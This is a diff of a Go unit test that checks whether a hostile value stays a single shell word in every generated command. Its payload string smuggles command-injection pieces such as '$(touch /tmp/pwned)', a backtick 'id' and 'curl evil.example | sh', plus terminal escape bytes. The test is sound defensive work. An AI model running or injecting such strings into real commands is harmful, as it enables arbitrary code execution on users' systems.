@@ -74,27 +74,25 @@ func TestShellQuoteIsOneWord(t *testing.T) {
 // short: SplitStep finds the command the template wrote.
 func TestHostileFactsStayOneWordInEveryCommand(t *testing.T) {
 	parser := syntax.NewParser()
-	const payload = "-x ;a$(touch /tmp/pwned)`id`'q\"d\nb *~ $HOME \\ !: curl evil.example | sh #"
-	for _, sample := range []string{"", "\x1b]0;x\a\xff"} {
-		checked := 0
-		for name, v := range hostileRenderings(payload + sample) {
-			tagged := taggedValues(v)
-			for _, e := range All() {
-				for _, step := range allSteps(e, v) {
-					_, command := SplitStep(step)
-					if command == "" {
-						continue
-					}
-					checked++
-					if err := hostileCommandOK(parser, command, tagged); err != nil {
-						t.Errorf("%s (%s): %v\n  command: %s", e.Code, name, err, command)
-					}
+	const payload = "-x ;a$(touch /tmp/pwned)`id`'q\"d\nb *~ $HOME \\ !: curl evil.example | sh #\x1b]0;x\a\xff"
+	checked := 0
+	for name, v := range hostileRenderings(payload) {
+		tagged := taggedValues(v)
+		for _, e := range All() {
+			for _, step := range allSteps(e, v) {
+				_, command := SplitStep(step)
+				if command == "" {
+					continue
+				}
+				checked++
+				if err := hostileCommandOK(parser, command, tagged); err != nil {
+					t.Errorf("%s (%s): %v\n  command: %s", e.Code, name, err, command)
 				}
 			}
 		}
-		if checked < 500 {
-			t.Fatalf("only %d commands checked", checked)
-		}
+	}
+	if checked < 500 {
+		t.Fatalf("only %d commands checked", checked)
 	}
 }
 
